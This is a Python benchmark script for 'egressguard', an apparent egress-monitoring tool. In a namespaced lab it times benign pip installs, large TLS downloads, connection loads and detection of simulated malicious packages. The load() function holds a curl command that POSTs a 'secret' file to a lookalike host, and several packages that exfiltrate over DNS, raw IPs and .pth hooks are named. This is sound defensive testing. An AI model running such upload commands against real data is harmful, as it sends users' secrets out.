"""Measures egressguard in the namespaced lab and prints the figures, side by side.

Run as root from the repository: uv run --frozen --no-editable python -m benchmarks.lab_bench
Options: --reps N (rotating repetitions, default 5), --download-mb N (default 1024),
--connections N (default 10000).

Figures: wall time of a benign pip install of a dozen real wheels without egressguard, in
audit mode and in block mode with gates (medians, ratios); what `egressguard run -- true`
adds over `true`; packets seen and dropped; a download of --download-mb over TLS with a small
exfiltration running during it (rate, frames on the link, packets that reached egressguard,
kernel drops, whether the exfiltration was caught); egressguard's peak resident memory over
that download and over a run with --connections connections; `check` names per second; and
for each attack the exit status, the time from the violating packet to the SIGKILL and to
the tree being gone, and the bytes the attacker's server received.
"""

from __future__ import annotations

import argparse
import json
import statistics
import subprocess
import sys
import tempfile
import time
from pathlib import Path

from tests.lab.conftest import BENIGN, benign_requirements, lab_env, make_venv, pip_command
from tests.lab.netlab import INDEX_IP, LOOKALIKE_IP, RAW_IP, UNKNOWN_IP, Lab, sh
from tests.lab.packages import build_world

REPO = Path(__file__).resolve().parents[1]
EGRESSGUARD = [sys.executable, "-m", "egressguard"]
# egressguard in-process, writing its own peak resident memory (KiB) to the file in argv[1]
MEASURED = [
    sys.executable,
    "-c",
    "import resource, sys; from egressguard.cli import main; out = sys.argv.pop(1); "
    "status = main(sys.argv[1:]); "
    "open(out, 'w').write(str(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)); "
    "sys.exit(status)",
]


def build_lab(root: Path) -> Lab:
    ca, cert, key, www = build_world(root, REPO / ".cache" / "lab-wheels")
    return Lab(root, ca, cert, key, www).start()


def timed(lab: Lab, argv: list[str], cwd: Path) -> tuple[float, int]:
    start = time.perf_counter()
    proc = lab.run(argv, env=lab_env(lab), cwd=cwd, timeout=300)
    return time.perf_counter() - start, proc.returncode


BENIGN_MODES = {"plain": None, "audit": ["--mode", "audit"], "gates": []}


def benign(lab: Lab, work: Path, reps: int) -> dict[str, float]:
    """The benign install without egressguard, in audit mode and in block mode with gates;
    the order rotates every repetition, so a machine getting slower hits all three alike."""
    times: dict[str, list[float]] = {mode: [] for mode in BENIGN_MODES}
    stats: dict[str, float] = {}
    modes = list(BENIGN_MODES)
    for rep in range(reps):
        for mode in modes[rep % 3 :] + modes[: rep % 3]:
            flags = BENIGN_MODES[mode]
            folder = Path(tempfile.mkdtemp(dir=work))
            command = pip_command(make_venv(folder), benign_requirements(folder))
            report = folder / "report.json"
            if flags is not None:
                watch = [*EGRESSGUARD, "run", "--quiet", "--report", str(report), *flags]
                command = [*watch, "--", *command]
            seconds, status = timed(lab, command, folder)
            assert status == 0, f"benign install failed ({mode})"
            times[mode].append(seconds)
            if flags is not None:
                document = json.loads(report.read_text())
                assert document["findings"] == [], document["findings"]
                stats["packets"] = max(stats.get("packets", 0), document["stats"]["packets"])
                stats["dropped"] = max(stats.get("dropped", 0), document["stats"]["dropped"])
    for mode, seconds in times.items():
        stats[f"{mode}_s"] = statistics.median(seconds)
    stats["ratio"] = stats["gates_s"] / stats["plain_s"]
    stats["audit_ratio"] = stats["audit_s"] / stats["plain_s"]
    return stats


def startup(lab: Lab, work: Path, reps: int) -> dict[str, float]:
    bare = [timed(lab, ["true"], work)[0] for _ in range(reps)]
    wrapped = [
        timed(lab, [*EGRESSGUARD, "run", "--quiet", "--", "true"], work)[0] for _ in range(reps)
    ]
    return {
        "true_s": statistics.median(bare),
        "wrapped_s": statistics.median(wrapped),
        "added_s": statistics.median(wrapped) - statistics.median(bare),
    }


SINKS = {
    "egl-lookalike-post": LOOKALIKE_IP,
    "egl-many-posts": UNKNOWN_IP,
    "egl-raw-ip": RAW_IP,
    "egl-index-upload": INDEX_IP,
    "egl-dns-hex": None,
    "egl-pth": LOOKALIKE_IP,
}


def attack(lab: Lab, work: Path, package: str, enforce: str) -> dict[str, object]:
    lab.reset_logs()
    folder = Path(tempfile.mkdtemp(dir=work))
    venv = make_venv(folder)
    command = pip_command(venv, [package])
    if package == "egl-pth":
        command = ["sh", "-c", " ".join(command) + f" && {venv}/bin/python -c pass"]
    report = folder / "report.json"
    flags = ["--quiet", "--enforce", enforce, "--report", str(report)]
    _, status = timed(lab, [*EGRESSGUARD, "run", *flags, "--", *command], folder)
    document = json.loads(report.read_text())
    sink = SINKS[package]
    received = lab.uploads(server=sink) if sink else len(lab.dns_queries("x.exfil-lab.net"))
    return {
        "attack": package,
        "enforce": enforce,
        "exit": status,
        "kinds": ",".join(sorted({f["kind"] for f in document["findings"]})),
        "packet_to_kill_ms": document["stats"].get("packet_to_kill_ms", "-"),
        "packet_to_gone_ms": document["stats"].get("packet_to_tree_gone_ms", "-"),
        "sink_received": received,
    }


def _frames(lab: Lab) -> int:
    """Frames in and out of the runner's link so far, as the kernel counts them."""
    counters = ("rx_packets", "tx_packets")
    paths = [f"/sys/class/net/{lab.name}a/statistics/{c}" for c in counters]
    return sum(int(sh("cat", path, netns=lab.runner).stdout) for path in paths)


def _curl(lab: Lab, url: str, *extra: str) -> str:
    return f"curl -sS --cacert {lab.ca_cert} -o /dev/null {' '.join(extra)} {url}"


def load(lab: Lab, work: Path, megabytes: int) -> list[dict[str, object]]:
    """A big TLS download, alone and with a 64 KB exfiltration to a lookalike one second in."""
    size = megabytes * 1024 * 1024
    folder = Path(tempfile.mkdtemp(dir=work))
    (folder / "secret").write_bytes(b"s" * 65536)
    download = _curl(lab, f"https://pypi.org/stream/{size}")
    exfil = _curl(lab, "https://files.pythonhosted-cdn.org/c", "--data-binary", "@secret")
    with_exfil = f"{download} & sleep 1; {exfil}; wait"
    rows = []
    for label, script, flags in (
        ("plain", download, None),
        ("audit + exfil", with_exfil, ["--mode", "audit"]),
        ("kill + exfil", with_exfil, ["--enforce", "kill"]),
        ("gates", download, []),
        ("gates + exfil", with_exfil, []),
    ):
        lab.reset_logs()
        rss = folder / "rss"
        report = folder / "report.json"
        argv = ["sh", "-c", script]
        if flags is not None:
            argv = [*MEASURED, str(rss), "run", "--quiet", "--report", str(report), *flags]
            argv += ["--", "sh", "-c", script]
        before = _frames(lab)
        seconds, status = timed(lab, argv, folder)
        frames = _frames(lab) - before
        # What the server finished sending; a run killed half-way: what egressguard counted.
        received = sum(int(str(r.get("sent", 0))) for r in lab.requests())
        document = json.loads(report.read_text()) if flags is not None else {}
        if flags is not None and not received:
            rows_in = [d["bytes_in"] for d in document["destinations"] if d["host"] == "pypi.org"]
            received = sum(rows_in)
        row: dict[str, object] = {
            "run": label,
            "exit": status,
            "seconds": f"{seconds:.2f}",
            "MB/s": f"{received / seconds / 1e6:.0f}",
            "received MB": f"{received / 1e6:.0f}",
            "frames": frames,
        }
        if flags is not None:
            kinds = {f["kind"] for f in document["findings"]}
            row["seen"] = document["stats"]["packets"]
            row["dropped"] = document["stats"]["dropped"]
            expected = "exfil" in label
            row["caught"] = "yes" if "typosquat" in kinds else ("NO" if expected else "-")
            row["sink got"] = lab.uploads(server=LOOKALIKE_IP)
            row["peak MiB"] = f"{int(rss.read_text()) / 1024:.1f}"
        rows.append(row)
    return rows


CONNECT = """
import socket, sys, time
count, deadline = int(sys.argv[1]), time.monotonic() + 300
address = socket.gethostbyname("pypi.org")
for n in range(count):
    if time.monotonic() > deadline:
        sys.exit(f"only {n} connections in 300 s")
    with socket.create_connection((address, 80), timeout=10) as s:
        s.sendall(b"HEAD / HTTP/1.0\\r\\nHost: pypi.org\\r\\n\\r\\n")
        s.recv(4096)
"""


def connections(lab: Lab, work: Path, count: int) -> list[dict[str, object]]:
    """egressguard's peak memory over `true`, 1,000 and `count` short HTTP connections."""
    folder = Path(tempfile.mkdtemp(dir=work))
    rows = []
    for n in (0, 1000, count):
        rss, report = folder / "rss", folder / "report.json"
        command = ["true"] if n == 0 else [sys.executable, "-c", CONNECT, str(n)]
        for mode in ("gates", "audit"):
            flags = ["--mode", "audit"] if mode == "audit" else []
            argv = [*MEASURED, str(rss), "run", "--quiet", "--report", str(report), *flags]
            seconds, status = timed(lab, [*argv, "--", *command], folder)
            document = json.loads(report.read_text())
            opened = sum(d["connections"] for d in document["destinations"])
            rows.append(
                {
                    "connections": n,
                    "mode": mode,
                    "exit": status,
                    "seconds": f"{seconds:.1f}",
                    "seen in report": opened,
                    "packets": document["stats"]["packets"],
                    "dropped": document["stats"]["dropped"],
                    "peak MiB": f"{int(rss.read_text()) / 1024:.1f}",
                }
            )
    return rows


def check_throughput(work: Path) -> dict[str, float]:
    """`egressguard check` over benign names and simple lookalikes of them, start-up included."""
    lines = (REPO / "benchmarks" / "data" / "benign-domains.txt").read_text().splitlines()
    names = [line.split("#")[0].strip() for line in lines if line.split("#")[0].strip()]
    names += [n[:2] + n[3:] for n in names]  # one letter left out
    names = [f"n{i}.{name}" for i in range(20) for name in names]
    start = time.perf_counter()
    proc = subprocess.run(
        [*EGRESSGUARD, "check", *names], capture_output=True, text=True, cwd=work, timeout=600
    )
    seconds = time.perf_counter() - start
    assert proc.returncode in (0, 1), proc.stderr  # 1: some names flagged
    return {"names": len(names), "seconds": seconds, "per_s": len(names) / seconds}


def _table(rows: list[dict[str, object]]) -> None:
    columns = list(dict.fromkeys(k for row in rows for k in row))
    widths = {c: max(len(c), *(len(str(r.get(c, ""))) for r in rows)) for c in columns}
    print("  " + "  ".join(f"{c:>{widths[c]}}" for c in columns))
    for row in rows:
        print("  " + "  ".join(f"{row.get(c, '')!s:>{widths[c]}}" for c in columns))


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--reps", type=int, default=5)
    parser.add_argument("--download-mb", type=int, default=1024)
    parser.add_argument("--connections", type=int, default=10000)
    args = parser.parse_args()
    with tempfile.TemporaryDirectory() as tmp:
        work = Path(tmp)
        lab = build_lab(work / "lab")
        try:
            print("benign installs ...", file=sys.stderr)
            b = benign(lab, work, args.reps)
            s = startup(lab, work, args.reps)
            print(f"{args.download_mb} MB downloads ...", file=sys.stderr)
            loads = load(lab, work, args.download_mb)
            print(f"{args.connections} connections ...", file=sys.stderr)
            memory = connections(lab, work, args.connections)
            names = check_throughput(work)
            print("attacks ...", file=sys.stderr)
            rows = [
                attack(lab, work, package, enforce)
                for enforce in ("gates", "kill")
                for package in SINKS
            ]
        finally:
            lab.close()
    print(f"benign pip install of {len(BENIGN)} wheels, median of {args.reps} rotating runs:")
    print(
        f"  without egressguard {b['plain_s']:.3f} s   block mode (gates) {b['gates_s']:.3f} s "
        f"(ratio {b['ratio']:.3f})   audit {b['audit_s']:.3f} s (ratio {b['audit_ratio']:.3f})"
    )
    print(f"  packets seen {b['packets']:.0f}   dropped by the kernel {b['dropped']:.0f}")
    print(
        f"start-up: true {s['true_s'] * 1000:.0f} ms   egressguard run -- true "
        f"{s['wrapped_s'] * 1000:.0f} ms   added {s['added_s'] * 1000:.0f} ms (gates)"
    )
    in_run = (b["gates_s"] - b["plain_s"] - s["added_s"]) / b["plain_s"]
    rest = f"{in_run * 100:+.1f} %"
    print(f"  the install's time with gates, less that start-up: {rest} of its time without")
    print(f"download of {args.download_mb} MiB over TLS, exfiltration a 64 KB POST to a lookalike:")
    _table(loads)
    print("  (frames: on the runner's link; seen: reached egressguard past the kernel filter)")
    print("egressguard's peak resident memory:")
    _table(memory)
    print(
        f"check: {names['names']} names in {names['seconds']:.2f} s = "
        f"{names['per_s']:.0f} names/s (start-up included)"
    )
    print("attacks (block mode):")
    print(
        f"  {'attack':<20} {'enforce':<7} {'exit':>4}  {'findings':<38} {'pkt->kill ms':>12} "
        f"{'pkt->gone ms':>12} {'sink got':>10}"
    )
    for r in rows:
        print(
            f"  {r['attack']:<20} {r['enforce']:<7} {r['exit']:>4}  {r['kinds']:<38} "
            f"{r['packet_to_kill_ms']!s:>12} {r['packet_to_gone_ms']!s:>12} "
            f"{r['sink_received']!s:>10}"
        )
    print("  (sink got: bytes the attacker's server received; for egl-dns-hex, exfil queries the")
    print("   upstream resolver saw, out of 10; the index upload's limit is 5 MiB = 5242880)")


if __name__ == "__main__":
    main()
